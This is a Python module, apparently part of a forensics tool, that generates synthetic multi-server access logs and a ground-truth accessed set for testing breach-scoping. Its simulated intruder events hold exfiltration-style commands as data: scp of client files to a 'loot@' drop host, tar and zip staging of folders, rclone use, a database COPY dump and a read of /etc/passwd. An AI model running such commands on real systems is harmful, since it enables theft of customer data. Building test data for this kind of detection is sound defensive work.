"""Synthetic access logs for a generated case, with the true accessed set.

``write_logs`` plays an intrusion against the evidence tree as seen through several
servers — a Windows file server (two exports), a Samba server, an SFTP/Linux host with
auditd, a web portal, an S3 bucket (server access logs and CloudTrail) and a PostgreSQL
database — and writes each server's log in its own format. Inside the window the
intruder's accounts and addresses view, copy and list files; around them, staff do normal
work (outside and inside the window, on the same files too), the intruder is active
before and after the window, fails, writes, and touches files outside the evidence tree.
Each log carries a few malformed lines. The returned truth is computed from the events
written, and checked against the requested accessed set.
"""

from __future__ import annotations

import datetime as dt
import gzip
import hashlib
import ipaddress
import posixpath
import random
import re
from collections.abc import Iterable, Mapping, Sequence
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any
from urllib.parse import quote
from zoneinfo import ZoneInfo

from breachscope.scope import synth_render as r
from breachscope.scope.model import stronger

UTC = dt.UTC
WIN_TZ = "America/New_York"
WIN_CSV_ROOT = "D:\\Shares\\Clients"
WIN_XML_ROOT = "E:\\Data\\Clients"
LINUX_ROOT = "/srv/clients"
WEB_ROOT = "/files"
BUCKET = "acme-clients"
PG_DB = "claimsdb"
VIEW_CHANNELS = ("win-csv", "win-xml", "samba", "sftp", "auditd", "web", "s3", "cloudtrail")
COPY_CHANNELS = ("win-csv", "win-xml", "sftp", "auditd", "web", "s3", "cloudtrail")
LIST_CHANNELS = ("win-csv", "win-xml", "samba", "sftp", "auditd", "web", "s3", "cloudtrail")
STAFF = (
    ("mlopez", "CORP", "10.20.4.17"),
    ("kchen", "CORP", "10.20.4.52"),
    ("coder01", "CORP", "10.20.7.9"),
    ("svc_backup", "CORP", "10.20.1.5"),
)
LOG_FILES = {
    "win-csv": "fs01-security.csv",
    "win-xml": "fs03-security.xml",
    "samba": "fs02-messages.log",
    "sftp": "xfer01-auth.log",
    "auditd": "xfer01-audit.log",
    "web": "portal-access.log",
    "s3": "s3-access.log.gz",
    "cloudtrail": "cloudtrail-data-events.json.gz",
    "pg": "claimsdb-pgaudit.csv",
}


@dataclass
class _Actor:
    name: str
    domain: str
    ip: str  # '' when the actor's address is not known to the scope
    uid: int
    attacker: bool

    @property
    def net_ip(self) -> str:
        # Every request comes from somewhere; an attacker known only by account used an
        # internal workstation.
        return self.ip or ("10.20.9.99" if self.attacker else "10.20.3.3")

    @property
    def arn(self) -> str:
        return f"arn:aws:iam::111122223333:user/{self.name}"


@dataclass
class _Logs:
    """Collected lines per channel, plus the truth as events are written."""

    window: tuple[dt.datetime, dt.datetime]
    sizes: dict[str, int]
    evidence: set[str]
    rng: random.Random
    win_csv: list[r.WinEvent] = field(default_factory=list)
    win_xml: list[r.WinEvent] = field(default_factory=list)
    lines: dict[str, list[tuple[dt.datetime, list[str]]]] = field(default_factory=dict)
    cloudtrail: list[tuple[dt.datetime, dict[str, Any]]] = field(default_factory=list)
    truth: dict[str, str] = field(default_factory=dict)
    missing: dict[str, str] = field(default_factory=dict)
    listed_dirs: set[str] = field(default_factory=set)
    serial: int = 7000
    ses: int = 40

    def add(self, channel: str, t: dt.datetime, lines: list[str]) -> None:
        self.lines.setdefault(channel, []).append((t, lines))

    def in_window(self, t: dt.datetime) -> bool:
        start, end = self.window
        return (
            start <= t < end + dt.timedelta(seconds=1)
            if end.microsecond == 0
            else start <= t <= end
        )

    def note(self, actor: _Actor, t: dt.datetime, path: str, action: str) -> None:
        if not (actor.attacker and self.in_window(t)) or action not in (
            "viewed",
            "copied",
            "listed",
        ):
            return
        if action == "listed":
            self.listed_dirs.add(path)
        elif path in self.evidence:
            self.truth[path] = stronger(action, self.truth.get(path, action))
        else:
            self.missing[path] = stronger(action, self.missing.get(path, action))

    # ------------------------------------------------------------------ channels
    def access(self, channel: str, actor: _Actor, t: dt.datetime, path: str, action: str) -> None:
        """One access through one channel. ``action``: viewed | copied | listed | fail | write.

        ``path`` is evidence-relative (a folder for 'listed'; '' is the root) unless it
        starts with '!' — then it is a server path outside the evidence tree.
        """
        getattr(self, "_" + channel.replace("-", "_"))(actor, t, path, action)
        if not path.startswith("!"):
            self.note(actor, t, path, action)

    def _logon(self, actor: _Actor) -> str:
        return hex(0x3E0000 + self.rng.randrange(0xFFFF))

    def _win(self, events: list[r.WinEvent], computer: str, root: str, actor: _Actor,
             t: dt.datetime, path: str, action: str, *, csv_flavour: bool) -> None:  # fmt: skip
        logon = self._logon(actor)
        if actor.ip:
            events.append(
                r.win_logon(
                    t - dt.timedelta(seconds=7), computer, actor.name, actor.domain, logon, actor.ip
                )
            )
        local = _win_path(root, path)
        u, d = actor.name, actor.domain
        if action == "listed":
            events.append(r.win_read(t, computer, u, d, logon, local, "C:\\Windows\\explorer.exe"))
        elif action in ("write", "fail"):
            events.append(
                r.win_read(t, computer, u, d, logon, local, "C:\\Windows\\explorer.exe", mask="0x2")
            )
        elif action == "viewed":
            if csv_flavour and self.rng.random() < 0.5 and not path.startswith("!"):
                rel = path.replace("/", "\\")
                events.append(r.win_share(t, computer, u, d, logon, actor.ip, "clients", root, rel))
            else:
                proc = self.rng.choice(
                    [
                        "C:\\Windows\\System32\\notepad.exe",
                        "C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE",
                    ]
                )
                events.append(r.win_read(t, computer, u, d, logon, local, proc))
        elif csv_flavour:
            out = f"C:\\Users\\Public\\{self.rng.randrange(10**6)}.zip"
            if self.rng.random() < 0.5:
                cmd = f'"C:\\Program Files\\7-Zip\\7z.exe" a -tzip {out} "{local}"'
                image = "C:\\Program Files\\7-Zip\\7z.exe"
            else:
                cmd = f"powershell.exe -NoProfile -Command Compress-Archive -Path '{local}' -DestinationPath {out}"
                image = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
            events.append(r.win_process(t, computer, u, d, logon, image, cmd))
            events.append(
                r.win_read(t + dt.timedelta(milliseconds=300), computer, u, d, logon, local, image)
            )
        else:
            events.append(
                r.win_read(t, computer, u, d, logon, local, "C:\\ProgramData\\rc\\rclone.exe")
            )

    def _win_csv(self, actor: _Actor, t: dt.datetime, path: str, action: str) -> None:
        self._win(
            self.win_csv,
            "FS01.corp.example",
            WIN_CSV_ROOT,
            actor,
            t,
            path,
            action,
            csv_flavour=True,
        )

    def _win_xml(self, actor: _Actor, t: dt.datetime, path: str, action: str) -> None:
        self._win(
            self.win_xml,
            "FS03.corp.example",
            WIN_XML_ROOT,
            actor,
            t,
            path,
            action,
            csv_flavour=False,
        )

    def _samba(self, actor: _Actor, t: dt.datetime, path: str, action: str) -> None:
        rel = path.lstrip("!") or "."
        ip, who, mach = actor.net_ip, actor.name, "WS-" + str(actor.uid)
        if action == "listed":
            lines = [r.samba_line(t, "fs02", who, ip, mach, "clients", "opendir", "ok", [rel])]
        elif action == "fail":
            lines = [
                r.samba_line(
                    t,
                    "fs02",
                    who,
                    ip,
                    mach,
                    "clients",
                    "openat",
                    "fail (Permission denied)",
                    ["r", rel],
                )
            ]
        elif action == "write":
            lines = [r.samba_line(t, "fs02", who, ip, mach, "clients", "openat", "ok", ["w", rel])]
        else:
            lines = [
                r.samba_line(t, "fs02", who, ip, mach, "clients", "openat", "ok", ["r", rel]),
                r.samba_line(t, "fs02", who, ip, mach, "clients", "pread_recv", "ok", [rel]),
                r.samba_line(t, "fs02", who, ip, mach, "clients", "close", "ok", [rel]),
            ]
        self.add("samba", t, lines)

    def _sftp(self, actor: _Actor, t: dt.datetime, path: str, action: str) -> None:
        pid = self.rng.randrange(20000, 60000)
        full = _linux_path(path)
        stamp = r.bsd_stamp
        s0, s1 = t - dt.timedelta(seconds=3), t + dt.timedelta(seconds=2)
        lines = [
            f"{stamp(s0)} xfer01 sshd[{pid - 2}]: Accepted password for {actor.name} from {actor.net_ip} port 52114 ssh2",
            f"{stamp(s0)} xfer01 sftp-server[{pid}]: session opened for local user {actor.name} from [{actor.net_ip}]",
        ]
        size = self.sizes.get(path, 0)
        if action == "listed":
            lines += [f'{stamp(t)} xfer01 sftp-server[{pid}]: opendir "{full}"',
                      f'{stamp(t)} xfer01 sftp-server[{pid}]: closedir "{full}"']  # fmt: skip
        elif action in ("write", "fail"):
            lines += [f'{stamp(t)} xfer01 sftp-server[{pid}]: open "{full}" flags WRITE,CREATE,TRUNCATE mode 0644',
                      f'{stamp(t)} xfer01 sftp-server[{pid}]: close "{full}" bytes read 0 written 512']  # fmt: skip
        else:
            nread = size if action == "copied" else max(1, size // 2)
            lines += [f'{stamp(t)} xfer01 sftp-server[{pid}]: open "{full}" flags READ mode 0666',
                      f'{stamp(s1)} xfer01 sftp-server[{pid}]: close "{full}" bytes read {nread} written 0']  # fmt: skip
        lines.append(
            f"{stamp(s1)} xfer01 sftp-server[{pid}]: session closed for local user {actor.name} from [{actor.net_ip}]"
        )
        self.add("sftp", t, lines)

    def _auditd(self, actor: _Actor, t: dt.datetime, path: str, action: str) -> None:
        self.ses += 1
        self.serial += 10
        lines: list[str] = []
        if actor.ip:
            lines += r.audit_login(
                t - dt.timedelta(seconds=30),
                self.serial - 5,
                actor.name,
                actor.uid,
                self.ses,
                actor.ip,
            )
        full = _linux_path(path)
        kw: dict[str, Any] = {"user": actor.name, "uid": actor.uid, "ses": self.ses}
        if action == "listed":
            lines += r.audit_records(t, self.serial, syscall="openat", comm="ls", exe="/usr/bin/ls",
                                     cwd="/home/" + actor.name, paths=[(full, "040755")],
                                     flags=0o200000 | 0o4000, **kw)  # fmt: skip
        elif action in ("write", "fail"):
            lines += r.audit_records(t, self.serial, syscall="openat", comm="vi", exe="/usr/bin/vi",
                                     cwd="/home/" + actor.name, paths=[(full, "0100640")],
                                     flags=0o1 | 0o1000, success=action == "write", **kw)  # fmt: skip
        elif action == "viewed":
            # relative to the working directory half of the time
            cwd, name = (
                (posixpath.dirname(full), posixpath.basename(full))
                if self.rng.random() < 0.5
                else ("/root", full)
            )
            lines += r.audit_records(t, self.serial, syscall="openat", comm="less", exe="/usr/bin/less",
                                     cwd=cwd, paths=[(name, "0100640")], **kw)  # fmt: skip
        else:
            argv = ["scp", "-q", full, f"loot@{actor.net_ip}:/drop/"]
            lines += r.audit_records(t, self.serial, syscall="execve", comm="scp", exe="/usr/bin/scp",
                                     cwd="/home/" + actor.name, paths=[("/usr/bin/scp", "0100755")], argv=argv, **kw)  # fmt: skip
        self.add("auditd", t, lines)

    def tar_dir(self, actor: _Actor, t: dt.datetime, folder: str) -> None:
        self.ses += 1
        self.serial += 10
        lines: list[str] = []
        if actor.ip:
            lines += r.audit_login(
                t - dt.timedelta(seconds=30),
                self.serial - 5,
                actor.name,
                actor.uid,
                self.ses,
                actor.ip,
            )
        argv = ["tar", "-czf", "/tmp/.cache.tgz", "-C", LINUX_ROOT, folder]
        lines += r.audit_records(t, self.serial, syscall="execve", comm="tar", exe="/usr/bin/tar",
                                 cwd="/tmp", paths=[("/usr/bin/tar", "0100755")], argv=argv,
                                 user=actor.name, uid=actor.uid, ses=self.ses)  # fmt: skip
        self.add("auditd", t, lines)
        if actor.attacker and self.in_window(t):
            prefix = folder + "/"
            for p in self.evidence:
                if p.startswith(prefix):
                    self.truth[p] = "copied"

    def _web(self, actor: _Actor, t: dt.datetime, path: str, action: str) -> None:
        user = actor.name if self.rng.random() < 0.7 else ""
        if not actor.ip and actor.attacker:
            user = actor.name  # known only by account: the account must show
        url = f"{WEB_ROOT}/{path.lstrip('!')}"
        size = self.sizes.get(path, 2048)
        if action == "listed":
            line = r.web_line(t, actor.net_ip, user, url.rstrip("/") + "/", 200, 1811)
        elif action == "fail":
            line = r.web_line(t, actor.net_ip, user, url, self.rng.choice([403, 404]), 153)
        elif action == "write":
            line = r.web_line(t, actor.net_ip, user, url, 201, 0, method="PUT")
        elif action == "viewed":
            line = r.web_line(t, actor.net_ip, user, url, 206, max(1, size // 4))
        else:
            line = r.web_line(t, actor.net_ip, user, url, 200, size)
        self.add("web", t, [line])

    def _s3(self, actor: _Actor, t: dt.datetime, path: str, action: str) -> None:
        key = path.lstrip("!")
        size = self.sizes.get(path, 2048)
        ip, who = actor.net_ip, actor.arn
        if action == "listed":
            prefix = (key.rstrip("/") + "/") if key else ""
            q = f"list-type=2&prefix={quote(prefix, safe='')}&delimiter=%2F&encoding-type=url"
            line = r.s3_line(t, BUCKET, ip, who, "REST.GET.BUCKET", "", 200, 4096, None, q)
        elif action in ("fail", "write"):
            line = r.s3_line(t, BUCKET, ip, who, "REST.GET.OBJECT", key, 403, 243, None)
        elif action == "viewed":
            half = size // 2
            line = r.s3_line(
                t, BUCKET, ip, who, "REST.GET.OBJECT", key, 206 if half == 0 else 200, half, size
            )
        else:
            line = r.s3_line(t, BUCKET, ip, who, "REST.GET.OBJECT", key, 200, size, size)
        self.add("s3", t, [line])

    def _cloudtrail(self, actor: _Actor, t: dt.datetime, path: str, action: str) -> None:
        key = path.lstrip("!")
        ip = actor.net_ip
        if action == "listed":
            prefix = (key.rstrip("/") + "/") if key else ""
            rec = r.cloudtrail_record(
                t,
                actor.arn,
                ip,
                "ListObjectsV2",
                BUCKET,
                {"list-type": "2", "prefix": prefix, "delimiter": "/"},
            )
        elif action in ("fail", "write"):
            rec = r.cloudtrail_record(
                t, actor.arn, ip, "GetObject", BUCKET, {"key": key}, error="AccessDenied"
            )
        elif action == "viewed":
            rec = r.cloudtrail_record(
                t, actor.arn, ip, "SelectObjectContent", BUCKET, {"key": key, "select-type": "2"}
            )
        else:
            rec = r.cloudtrail_record(
                t, actor.arn, ip, "GetObject", BUCKET, {"key": key}, sent=self.sizes.get(path, 2048)
            )
        self.cloudtrail.append((t, rec))

    def table(self, actor: _Actor, t: dt.datetime, table: str, path: str, action: str) -> None:
        self.serial += 1
        if action == "copied":
            stmt, cmd = f"COPY {table} TO STDOUT WITH CSV HEADER", "COPY"
        else:
            stmt, cmd = f"SELECT * FROM {table} WHERE updated_at > $1", "SELECT"
        self.add(
            "pg", t, [r.pg_row(t, actor.name, PG_DB, actor.net_ip, self.serial, cmd, table, stmt)]
        )
        self.note(actor, t, path, action)


def _win_path(root: str, path: str) -> str:
    if path.startswith("!"):
        return path[1:]
    return root + ("\\" + path.replace("/", "\\") if path else "")


def _linux_path(path: str) -> str:
    if path.startswith("!"):
        return path[1:]
    return LINUX_ROOT + ("/" + path if path else "")


def _as_window(
    window: tuple[dt.datetime | dt.date, dt.datetime | dt.date],
) -> tuple[dt.datetime, dt.datetime]:
    def conv(v: dt.datetime | dt.date, end: bool) -> dt.datetime:
        if isinstance(v, dt.datetime):
            return (v if v.tzinfo else v.replace(tzinfo=UTC)).astimezone(UTC)
        return dt.datetime.combine(v, dt.time(23, 59, 59) if end else dt.time(0, 0, 0), tzinfo=UTC)

    return conv(window[0], False), conv(window[1], True)


def _attacker_ips(rng: random.Random, ips: Sequence[str]) -> list[str]:
    out: list[str] = []
    for text in ips:
        net = ipaddress.ip_network(text, strict=False)
        if net.num_addresses <= 2:
            out.append(str(net.network_address))
        else:
            out.append(str(net.network_address + rng.randint(1, min(net.num_addresses - 2, 250))))
    return out


def _toml_str(s: str) -> str:
    return '"' + s.replace("\\", "\\\\").replace('"', '\\"') + '"'


def _toml_time(t: dt.datetime) -> str:
    return (
        t.astimezone(UTC).strftime("%Y-%m-%dT%H:%M:%S")
        + (f".{t.microsecond:06d}" if t.microsecond else "")
        + "Z"
    )


def write_logs(
    out_dir: Path,
    evidence_paths: Iterable[str],
    accessed: set[str],
    seed: int,
    window: tuple[dt.datetime | dt.date, dt.datetime | dt.date],
    accounts: Sequence[str],
    ips: Sequence[str],
    *,
    case_dir: Path | None = None,
    evidence_root: Path | None = None,
    sizes: Mapping[str, int] | None = None,
    n_missing: int = 2,
    n_noise: int = 80,
) -> dict[str, Any]:
    """Write access logs for a case in which ``accessed`` evidence files were touched.

    ``window`` is (start, end) as aware date-times (dates mean whole days, UTC);
    ``accounts``/``ips`` are the intruder's, as they will appear in ``[scope]``. Log paths in
    the returned TOML are relative to ``case_dir`` (default: ``out_dir``'s parent). File
    sizes come from ``sizes`` or ``evidence_root``; otherwise they are invented — pass the
    returned ``sizes`` to ``compute_accessed_set`` either way.

    Returns ``accessed`` (the true in-scope set), ``labels`` (path → viewed | copied),
    ``listed_only``, ``missing_from_evidence`` (path → label), ``tables`` (table → path),
    ``logs``, ``sizes``, ``scope`` (the table as a dict) and ``scope_toml`` (the text).
    """
    if not accounts and not ips:
        raise ValueError("write_logs needs intruder accounts or addresses")
    rng = random.Random(seed)
    start, end = _as_window(window)
    evidence = sorted(p for p in evidence_paths if "!" not in p)
    ev_set = set(evidence)
    unknown = accessed - ev_set
    if unknown:
        raise ValueError(f"{len(unknown)} accessed paths are not evidence files on disk")
    size_of: dict[str, int] = {}
    for p in evidence:
        if sizes and p in sizes:
            size_of[p] = sizes[p]
        elif evidence_root is not None and (evidence_root / p).is_file():
            size_of[p] = (evidence_root / p).stat().st_size
        else:
            size_of[p] = int(hashlib.sha256(p.encode()).hexdigest()[:6], 16) % 900_000 + 1000
    logs = _Logs((start, end), size_of, ev_set, rng)

    # --------------------------------------------------------------- actors
    att_ips = _attacker_ips(rng, ips)
    attackers: list[_Actor] = []
    for i, text in enumerate(accounts):
        domain, _, name = text.rpartition("\\")
        if "@" in name:
            name, _, dom2 = name.partition("@")
            domain = domain or dom2.split(".")[0].upper()
        ip = att_ips[i % len(att_ips)] if att_ips and rng.random() < 0.6 else ""
        attackers.append(_Actor(name, domain or "CORP", ip, 1101 + i, True))
    for j, ip in enumerate(att_ips):
        attackers.append(_Actor(f"helpdesk{j + 2:02d}", "CORP", ip, 1201 + j, True))
    listed_names = {text.rpartition("\\")[2].split("@")[0].casefold() for text in accounts}
    staff = [
        _Actor(n, d, ip, 1301 + k, False)
        for k, (n, d, ip) in enumerate(STAFF)
        if n.casefold() not in listed_names
        and not any(ipaddress.ip_address(ip) in ipaddress.ip_network(x, strict=False) for x in ips)
    ] or [_Actor("staff_user", "CORP", "192.0.2.200", 1399, False)]

    span = (end - start).total_seconds()

    def inside() -> dt.datetime:
        return start + dt.timedelta(seconds=rng.uniform(60, max(61.0, span - 60)))

    def around() -> dt.datetime:
        return start + dt.timedelta(seconds=rng.uniform(-10 * 86400, span + 5 * 86400))

    def outside() -> dt.datetime:
        if rng.random() < 0.5:
            return start - dt.timedelta(seconds=rng.uniform(1, 10 * 86400))
        return end + dt.timedelta(seconds=rng.uniform(2, 5 * 86400))

    # --------------------------------------------------------------- tables
    tables: dict[str, str] = {}
    csvs = sorted(p for p in accessed if p.lower().endswith(".csv"))
    if len(csvs) >= 3:
        for k, p in enumerate(rng.sample(csvs, 2)):
            stem = re.sub(
                r"[^a-z0-9]+", "_", posixpath.basename(p).rsplit(".", 1)[0].lower()
            ).strip("_")
            tables[f"public.{stem or 't'}_{k}"] = p
    table_files = set(tables.values())
    others = sorted(p for p in evidence if p.lower().endswith(".csv") and p not in accessed)
    noise_table = ""
    if others:
        noise_table = "public.reference_codes"
        tables[noise_table] = others[0]

    plan = sorted(accessed - table_files)
    labels = {p: ("copied" if rng.random() < 0.6 else "viewed") for p in plan}

    # A folder whose every file was accessed is taken whole with tar.
    folders = sorted({posixpath.dirname(p) for p in plan} - {""})
    for folder in folders:
        under = [p for p in evidence if p.startswith(folder + "/")]
        if len(under) >= 2 and all(p in labels for p in under):
            logs.tar_dir(rng.choice(attackers), inside(), folder)
            for p in under:
                labels.pop(p)
            break

    # --------------------------------------------------------------- the intrusion
    for p in sorted(labels):
        label = labels[p]
        choices = list(COPY_CHANNELS if label == "copied" else VIEW_CHANNELS)
        if size_of[p] < 2:
            choices = [c for c in choices if c != "sftp"]
        logs.access(rng.choice(choices), rng.choice(attackers), inside(), p, label)
        if rng.random() < 0.3:
            logs.access(rng.choice(VIEW_CHANNELS), rng.choice(attackers), inside(), p, "viewed")
    for table, p in tables.items():
        if p in table_files:
            logs.table(rng.choice(attackers), inside(), table, p, rng.choice(["viewed", "copied"]))
    for p in rng.sample(sorted(accessed), min(len(accessed), max(1, len(accessed) // 3))):
        logs.access(
            rng.choice(LIST_CHANNELS),
            rng.choice(attackers),
            inside(),
            posixpath.dirname(p),
            "listed",
        )
    existing_dirs = sorted({posixpath.dirname(p) for p in evidence})
    for k in range(n_missing if existing_dirs else 0):
        gone = posixpath.join(rng.choice(existing_dirs), f"export_{k}_{rng.randrange(10**4)}.xlsx")
        if gone.casefold() not in {e.casefold() for e in evidence}:
            logs.access("win-csv", rng.choice(attackers), inside(), gone, "copied")

    # --------------------------------------------------------------- window edges
    accessed_list = sorted(accessed - table_files)
    not_accessed = sorted(ev_set - accessed)
    a0 = attackers[0]
    if accessed_list:
        p = rng.choice(accessed_list)
        logs.access("s3", a0, start, p, logs.truth.get(p, "viewed"))
        p = rng.choice(accessed_list)
        logs.access("web", a0, end.replace(microsecond=0), p, logs.truth.get(p, "viewed"))
        if end.microsecond == 0:
            p = rng.choice(accessed_list)
            logs.access(
                "win-xml", a0, end + dt.timedelta(milliseconds=500), p, logs.truth.get(p, "viewed")
            )
    if not_accessed:
        logs.access("web", a0, start - dt.timedelta(seconds=1), rng.choice(not_accessed), "copied")
        edge = end + dt.timedelta(seconds=1)
        logs.access("s3", a0, edge.replace(microsecond=0), rng.choice(not_accessed), "copied")

    # --------------------------------------------------------------- not the intrusion
    for _ in range(12):  # the intruder before and after the window
        logs.access(
            rng.choice(COPY_CHANNELS),
            rng.choice(attackers),
            outside(),
            rng.choice(evidence),
            "copied",
        )
    for _ in range(8):  # failures and writes inside the window
        if not_accessed:
            logs.access(rng.choice(VIEW_CHANNELS), rng.choice(attackers), inside(), rng.choice(not_accessed),
                        rng.choice(["fail", "write"]))  # fmt: skip
    logs.access("win-csv", a0, inside(), "!C:\\Users\\Public\\stage.zip", "write")
    logs.access("auditd", a0, inside(), "!/etc/passwd", "viewed")
    for _ in range(n_noise):  # staff at work, on the same files too
        p = (
            rng.choice(sorted(accessed))
            if accessed and rng.random() < 0.4
            else rng.choice(evidence)
        )
        action = rng.choice(["viewed", "copied", "listed"])
        target = posixpath.dirname(p) if action == "listed" else p
        channel = rng.choice(LIST_CHANNELS if action == "listed" else COPY_CHANNELS)
        logs.access(channel, rng.choice(staff), around(), target, action)
    for table in tables:
        logs.table(rng.choice(staff), around(), table, tables[table], "viewed")
    # The wevtutil export was cut mid-event: make the last event a harmless one.
    logs.access("win-xml", staff[0], end + dt.timedelta(days=6), evidence[0], "viewed")

    truth = dict(logs.truth)
    if set(truth) != accessed:
        raise RuntimeError("synthetic logs do not reproduce the requested accessed set")
    listed_only = {
        p
        for d in logs.listed_dirs
        for p in evidence
        if posixpath.dirname(p) == d and p not in truth
    }

    # --------------------------------------------------------------- write
    out_dir.mkdir(parents=True, exist_ok=True)
    written: dict[str, Path] = {}
    # The export ends in a row cut short.
    win_csv = r.win_csv(logs.win_csv, ZoneInfo(WIN_TZ)) + '"An attempt was made","4663"\r\n'
    written["win-csv"] = _write(out_dir / LOG_FILES["win-csv"], win_csv, "utf-16")
    written["win-xml"] = _write(
        out_dir / LOG_FILES["win-xml"], r.win_xml(logs.win_xml, truncate_tail=True), "utf-8"
    )
    junk = {
        "samba": [
            "Jan 3 03:1 fs02 smbd_audit: broken|line",
            f"{r.bsd_stamp(start)} fs02 CRON[811]: (root) CMD (run-parts /etc/cron.hourly)",
        ],
        "sftp": [
            f'{r.bsd_stamp(start)} xfer01 sftp-server[4242]: open "/srv/clients/unterminated',
            f"{r.bsd_stamp(start)} xfer01 systemd[1]: Started Session 9 of user root.",
        ],
        "auditd": [
            "type=SYSCALL msg=audit(garbled",
            'type=PATH msg=audit(1700000000.000:1): item=0 name="/x',
        ],
        "web": [
            "\x00\x00garbage",
            '10.20.4.17 - - [32/Foo/2025:99:00:00 +0000] "GET / HTTP/1.1" 200 1',
        ],
        "s3": [
            "79a59df900b949e55d96a1e698fbacedfd6e09d98eacf8f8d5218e7cd47ef2be acme-clients [truncated"
        ],
        "pg": ['2025-01-01 00:00:00.000 UTC,"postgres"'],
    }
    headers: dict[str, list[str]] = {c: [] for c in junk}
    for channel in ("samba", "sftp", "auditd", "web", "s3", "pg"):
        entries = sorted(logs.lines.get(channel, []), key=lambda e: e[0])
        body = headers[channel] + [line for _t, ls in entries for line in ls]
        for k, bad in enumerate(junk[channel]):
            body.insert(min(len(body), (k + 1) * max(1, len(body) // 3)), bad)
        text = "\n".join(body) + "\n"
        path = out_dir / LOG_FILES[channel]
        if channel == "samba":
            _write(path, text, "cp1252")  # a legacy syslog relay
        elif path.suffix == ".gz":
            path.write_bytes(gzip.compress(text.encode("utf-8"), mtime=0))
        else:
            _write(path, text, "utf-8")
        written[channel] = path
    ct = out_dir / LOG_FILES["cloudtrail"]
    ct.write_bytes(
        gzip.compress(
            r.cloudtrail_file(
                [rec for _t, rec in sorted(logs.cloudtrail, key=lambda e: e[0])]
            ).encode(),
            mtime=0,
        )
    )
    written["cloudtrail"] = ct

    base = case_dir if case_dir is not None else out_dir.parent
    rel = {k: Path(v).resolve().relative_to(base.resolve()).as_posix() for k, v in written.items()}
    scope, toml = _scope_table(rel, start, end, accounts, ips, tables)
    return {
        "accessed": set(truth),
        "labels": truth,
        "listed_only": listed_only,
        "missing_from_evidence": dict(logs.missing),
        "tables": {t: p for t, p in tables.items() if t != noise_table},
        "logs": sorted(rel.values()),
        "sizes": size_of,
        "scope": scope,
        "scope_toml": toml,
    }


def _write(path: Path, text: str, encoding: str) -> Path:
    path.write_bytes(text.encode(encoding, errors="replace"))
    return path


def _scope_table(
    rel: Mapping[str, str],
    start: dt.datetime,
    end: dt.datetime,
    accounts: Sequence[str],
    ips: Sequence[str],
    tables: Mapping[str, str],
) -> tuple[dict[str, Any], str]:
    rules = [
        (WIN_CSV_ROOT + "\\", ""),
        ("\\\\fs01\\clients\\", ""),
        (WIN_XML_ROOT + "\\", ""),
        ("\\\\fs02\\clients\\", ""),
        (LINUX_ROOT + "/", ""),
        (WEB_ROOT + "/", ""),
        (f"s3://{BUCKET}/", ""),
    ]
    log_items: list[Any] = []
    lines = ["[scope]", "logs = ["]
    for channel, path in rel.items():
        if channel == "win-csv":
            log_items.append({"path": path, "timezone": WIN_TZ})
            lines.append(f"  {{ path = {_toml_str(path)}, timezone = {_toml_str(WIN_TZ)} }},")
        else:
            log_items.append(path)
            lines.append(f"  {_toml_str(path)},")
    lines += [
        "]",
        f"start = {_toml_time(start)}",
        f"end = {_toml_time(end)}",
        "accounts = [" + ", ".join(_toml_str(a) for a in accounts) + "]",
        "ips = [" + ", ".join(_toml_str(i) for i in ips) + "]",
    ]
    for src, dst in rules:
        lines += ["", "[[scope.path_map]]", f"from = {_toml_str(src)}", f"to = {_toml_str(dst)}"]
    if tables:
        lines += ["", "[scope.tables]"]
        lines += [f"{_toml_str(t)} = [{_toml_str(p)}]" for t, p in tables.items()]
    scope: dict[str, Any] = {
        "logs": log_items,
        "start": start,
        "end": end,
        "accounts": list(accounts),
        "ips": list(ips),
        "path_map": [{"from": s, "to": d} for s, d in rules],
        "tables": {t: [p] for t, p in tables.items()},
    }
    return scope, "\n".join(lines) + "\n"
